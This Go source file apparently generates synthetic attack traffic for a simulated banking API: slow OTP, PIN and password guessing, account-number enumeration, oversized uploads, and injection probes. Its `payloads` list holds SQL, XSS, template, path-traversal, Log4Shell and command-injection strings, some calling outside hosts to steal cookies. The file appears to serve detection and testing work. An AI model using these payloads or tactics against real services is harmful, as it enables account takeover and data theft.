package main

import (
	"math/rand/v2"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// bruteforce is one address guessing a code, slowly so as to pass for a
// customer fumbling: the one-time code of a payment in a session it has
// taken over, the PIN of a card, or the password of one or two accounts.
// After a few wrong answers the bank locks the challenge, the card or the
// account (423); the attacker takes a new challenge, or keeps trying into
// the lock for a while before it notices.
func (w *world) bruteforce(r *rand.Rand) {
	s := w.s
	v := w.lone(r, "bruteforce", "python-requests/2.31.0", "okhttp/4.9.3", "Hydra")
	start, end := w.span(r, 150, 600)
	every := func() float64 { return Uniform(r, 3, 14) }
	if Chance(r, 0.2) {
		every = func() float64 { return Uniform(r, 0.8, 2.5) }
	}
	user, accs := w.holdings(r)
	v.t = start - Sec(Uniform(r, 20, 60))
	var path string
	var lock int
	switch x := r.Float64(); {
	case x < 0.45:
		// The password is known (phished); the code sent to the phone is not.
		if !v.app {
			v.page(s.pages+"/login", 30)
		}
		v.post(v.api+"/auth/login", 200, 260, 1.1, 300)
		v.user = user
		path, lock = v.api+"/auth/otp/verify", 3+r.IntN(3)
	case x < 0.7:
		if v.app {
			v.appStart(user)
		} else {
			v.login(user)
		}
		v.overview(accs)
		path, lock = v.api+"/cards/"+card(user)+"/pin/verify", 3
	default:
		if !v.app {
			v.page(s.pages+"/login", 30)
		}
		path, lock = v.api+"/auth/login", 5+r.IntN(6)
	}
	v.attack = true
	w.begin(v, start)
	for wrong := 0; ; wrong++ {
		switch {
		case wrong < lock:
			v.post(path, 401, 120, 0.2, 90)
		case strings.HasSuffix(path, "/otp/verify") && Chance(r, 0.6):
			// A new code is sent; the guessing starts again.
			v.post(v.api+"/auth/otp/resend", Pick(r, []int{202, 202, 429}), 40, 0.1, 120)
			wrong = -1
		default:
			v.post(path, 423, 120, 0.2, 40)
			if wrong > lock+3+r.IntN(6) && strings.HasSuffix(path, "/auth/login") {
				wrong = -1 // on to the next account
			}
		}
		if v.t += Sec(every()); v.t >= end {
			return
		}
	}
}

// injection is an ordinary signed-in session in which a share of the
// requests carry a payload where the customer types text: the search of
// transactions, a payee's name, the filters of statements and exports,
// the billers' search.
func (w *world) injection(r *rand.Rand) {
	s := w.s
	v := w.lone(r, "injection")
	start, end := w.span(r, 150, 600)
	accs := w.signedIn(r, v, start)
	share := Uniform(r, 0.2, 0.45)
	raw := strings.NewReplacer(" ", "+", "&", "%26", "#", "%23")
	pRaw, pOnce := Uniform(r, 0, 0.4), Uniform(r, 0.6, 1)
	a := accs[0]
	first := true
	for w.begin(v, start); v.t < end; v.think(Uniform(r, 3, 9)) {
		if !first && !Chance(r, share) {
			v.task(accs)
			continue
		}
		first = false
		p := EncodeQuery(r, Pick(r, payloads[r.IntN(len(payloads))]), raw, pRaw, pOnce)
		paths := []string{
			v.api + "/accounts/" + a + "/transactions/search?q=" + p,
			v.api + "/payees?search=" + p,
			v.api + "/accounts/" + a + "/statements?year=" + p,
			v.api + "/accounts/" + a + "/transactions/export?format=csv&from=" + p + "&to=2026-10-29",
			v.api + "/accounts/" + a + "/transactions?limit=30&category=" + p,
			v.api + "/billers?q=" + p,
		}
		if s.lookupGET {
			paths = append(paths, v.api+"/payees/name-check?"+s.accountRef(r.IntN(1e8))+"&name="+p)
		}
		status := []int{400, 200, 500, 403}[Weighted(r, []float64{0.45, 0.38, 0.1, 0.07})]
		v.attack = true
		v.get(Pick(r, paths), status, 1.5, 90)
		v.attack = false
	}
}

var payloads = [][]string{
	{"' OR '1'='1", "1' OR 1=1-- -", "' UNION SELECT iban,balance,NULL FROM accounts-- -", "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", "2026-01-01' AND 1=CAST((SELECT version()) AS int)--", "admin'--"},
	{"<script>alert(1)</script>", `"><img src=x onerror=alert(document.cookie)>`, "<svg/onload=fetch('//x.oast.me/'+document.cookie)>", "javascript:alert(1)"},
	{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{constructor.constructor('return process')()}}"},
	{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", `..\..\..\windows\win.ini`, "/etc/passwd%00.pdf"},
	{"${jndi:ldap://x9q1.oast.fun/a}", "; cat /etc/passwd", "| id", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"},
}

// upload is a signed-in account sending files of 15 to 120 MB to the
// identity document upload a few times a minute; those over the bank's
// limit are cut off early with 413.
func (w *world) upload(r *rand.Rand) {
	s := w.s
	v := w.lone(r, "upload", "python-requests/2.31.0", "curl/8.5.0")
	start, end := w.span(r, 180, 600)
	w.signedIn(r, v, start)
	v.get(v.api+"/kyc/requirements", 200, 1, 60)
	mbps := LogUniform(r, 5, 60)
	v.attack = true
	for w.begin(v, start); v.t < end; v.pause(8, 30) {
		size := int64(LogUniform(r, 15, 120) * (1 << 20))
		doc := Pick(r, []string{"id-front", "id-back", "proof-of-address", "selfie"})
		if size > s.uploadLimit {
			part := int64(Uniform(r, 256<<10, 4<<20))
			v.took("POST", v.api+"/kyc/documents?type="+doc, 413, part, kb(r, 0.2), 1000*float64(part)/(1<<20)/mbps)
			continue
		}
		secs := float64(size) / (1 << 20) / mbps
		v.took("POST", v.api+"/kyc/documents?type="+doc, Pick(r, []int{201, 422, 422}), size, kb(r, 0.3), 1000*secs)
		v.t += Sec(secs)
	}
}

// enumeration walks account numbers through the payee name check, or
// phone numbers through the P2P lookup, from a signed-in account: most
// answers say there is no such account, a few give a name away.
func (w *world) enumeration(r *rand.Rand) {
	s := w.s
	v := w.lone(r, "enumeration", "python-requests/2.31.0", "PostmanRuntime/7.39.0")
	start, end := w.span(r, 120, 540)
	w.signedIn(r, v, start)
	n, step := r.IntN(90000000), 1+r.IntN(3)
	byPhone := v.app && Chance(r, 0.3)
	rate := LogUniform(r, 0.3, 4)
	hit := Uniform(r, 0.05, 0.3)
	v.attack = true
	w.begin(v, start)
	w.pace(r, v, rate, end, func() {
		n += step
		found := Chance(r, hit)
		switch {
		case byPhone && found:
			v.get(v.api+"/p2p/lookup?phone="+s.phone(r), 200, 0.4, 140)
		case byPhone:
			v.get(v.api+"/p2p/lookup?phone="+s.phone(r), 404, 0.1, 140)
		case s.lookupGET:
			status := 200 // a name, or no match
			if !found && Chance(r, 0.5) {
				status = 404
			}
			v.get(v.api+"/payees/name-check?"+s.accountRef(n)+"&name="+Pick(r, []string{"A+Smith", "J", "Mr+M+Jones", "test"}), status, 0.3, 700)
		default:
			v.nameCheck(Pick(r, []int{200, 200, 404}))
		}
	})
}

// signedIn starts an attacker's visit v as a customer's, 20 to 60 s before
// start: an account of its own, the app's start or the login page and a
// login, then the overview. It returns the account's accounts.
func (w *world) signedIn(r *rand.Rand, v *visit, start int64) []string {
	user, accs := w.holdings(r)
	v.t = start - Sec(Uniform(r, 20, 60))
	if v.app {
		v.appStart(user)
	} else {
		v.page(w.s.pages+"/login", 30)
		v.login(user)
	}
	v.overview(accs)
	return accs
}
